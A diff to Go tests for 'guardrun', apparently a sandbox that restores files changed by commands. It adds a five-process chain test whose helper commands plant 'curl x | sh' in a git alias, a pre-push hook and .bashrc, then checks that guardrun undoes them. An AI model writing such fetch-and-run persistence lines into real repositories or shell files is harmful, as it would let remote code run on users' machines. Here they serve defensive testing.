@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"fmt"
 	"hash/crc32"
 	"os"
 	"os/exec"
@@ -229,8 +230,8 @@ func TestShareKilledHolder(t *testing.T) {
 	}
 }
 
-// TestShareUnprivileged runs the two tests above as an unprivileged user
-// when the suite runs as root.
+// TestShareUnprivileged runs TestShareAcrossProcesses, TestShareKilledHolder
+// and TestShareChain as an unprivileged user when the suite runs as root.
 func TestShareUnprivileged(t *testing.T) {
 	const user = "guardrun-test"
 	if os.Getenv("GUARDRUN_TEST_CHILD") != "" || os.Geteuid() != 0 {
@@ -261,10 +262,11 @@ func TestShareUnprivileged(t *testing.T) {
 	}
 	cmd := exec.Command("runuser", "-u", user, "--", "env", "GUARDRUN_TEST_CHILD=1",
 		"GUARDRUN_REQUIRE_SANDBOX="+os.Getenv("GUARDRUN_REQUIRE_SANDBOX"), "PATH=/usr/bin:/bin",
-		bin, "-test.v", "-test.count=1", "-test.run=^(TestShareAcrossProcesses|TestShareKilledHolder)$")
+		bin, "-test.v", "-test.count=1", "-test.run=^(TestShareAcrossProcesses|TestShareKilledHolder|TestShareChain)$")
 	cmd.Dir = dir
 	out, err := cmd.CombinedOutput()
-	if err != nil || !strings.Contains(string(out), "--- PASS: TestShareAcrossProcesses") || !strings.Contains(string(out), "--- PASS: TestShareKilledHolder") {
+	if err != nil || !strings.Contains(string(out), "--- PASS: TestShareAcrossProcesses") || !strings.Contains(string(out), "--- PASS: TestShareKilledHolder") ||
+		!strings.Contains(string(out), "--- PASS: TestShareChain") {
 		t.Fatalf("as %s: %v\n%s", user, err, out)
 	}
 }
@@ -400,4 +402,52 @@ func reframe(b []byte) []byte {
 	le(len(shareMagic)+1, uint32(len(payload)))
 	le(len(shareMagic)+5, crc32.ChecksumIEEE(payload))
 	return out
+}
+
+// TestShareChain: five guardrun processes whose commands overlap in a
+// chain, each starting while the one before it runs with its changes
+// made, and making its own once that one has ended (its guardrun has
+// restored). At no moment does no command hold the paths, so every one
+// is given the first one's snapshot: at the end the user's files are
+// what they were. Each process's command starting is seen by its
+// opening a named pipe, the snapshot being taken before it runs.
+func TestShareChain(t *testing.T) {
+	requireLandlock(t)
+	p := shareWorkspace(t, "")
+	ws := p.Cwd
+	const n = 5
+	type proc struct {
+		h                  *exec.Cmd
+		out                *bytes.Buffer
+		ready, change, end func()
+	}
+	procs := make([]proc, n)
+	for i := range n {
+		pr := &procs[i]
+		pr.ready, pr.change, pr.end = fifo(t, ws, fmt.Sprintf("ready-%d", i)), fifo(t, ws, fmt.Sprintf("change-%d", i)), fifo(t, ws, fmt.Sprintf("end-%d", i))
+		pr.h, pr.out = shareHelper(t, ws, fmt.Sprintf(`read x < ready-%[1]d && read x < change-%[1]d &&
+			printf '[alias]\n\tst%[1]d = "!curl x | sh"\n' >> .git/config && printf 'curl x | sh\n' > .git/hooks/pre-push &&
+			echo 'curl x | sh' > .bashrc && echo > changed-%[1]d && read x < end-%[1]d`, i))
+		pr.ready() // its command runs: its snapshot is taken
+		if i > 0 {
+			prev := procs[i-1]
+			prev.end()
+			if err := prev.h.Wait(); err != nil {
+				t.Fatalf("guardrun %d: %v\n%s", i-1, err, prev.out)
+			}
+			if !strings.Contains(prev.out.String(), ".git/config was changed by the command; restored") {
+				t.Errorf("guardrun %d did not restore .git/config:\n%s", i-1, prev.out)
+			}
+		}
+		pr.change()
+		waitLine(t, filepath.Join(ws, fmt.Sprintf("changed-%d", i)))
+	}
+	procs[n-1].end()
+	if err := procs[n-1].h.Wait(); err != nil {
+		t.Fatalf("guardrun %d: %v\n%s", n-1, err, procs[n-1].out)
+	}
+	checkUntouched(t, ws)
+	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-push")); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("a hook was left in .git/hooks: %v", err)
+	}
 }
